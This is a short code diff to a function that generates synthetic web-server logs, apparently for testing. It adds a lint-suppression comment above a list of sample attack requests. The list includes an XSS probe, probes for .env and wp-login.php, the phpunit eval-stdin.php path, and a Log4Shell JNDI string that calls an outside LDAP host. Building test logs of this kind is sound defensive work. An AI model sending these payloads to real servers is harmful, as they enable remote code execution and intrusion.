@@ -34,6 +34,7 @@ export function makeLogs(folder, megabytes, seed = 42, only = undefined) {
     '/?q=%3Cscript%3Ealert(1)%3C/script%3E',
     '/.env',
     '/wp-login.php',
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: the text of an attack
     '/?x=${jndi:ldap://198.51.100.7/a}',
     '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
   ];
